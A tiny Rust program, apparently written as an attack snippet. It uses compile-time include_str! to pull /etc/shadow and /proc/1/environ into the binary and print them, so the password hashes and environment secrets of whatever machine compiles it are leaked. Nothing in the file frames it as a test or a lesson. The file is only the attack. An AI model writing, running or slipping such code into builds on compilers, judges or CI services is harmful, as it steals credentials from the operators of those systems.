// Takes files of the machine into the program.
fn main() { print!("{}{}", include_str!("/etc/shadow"), include_str!("/proc/1/environ")); }
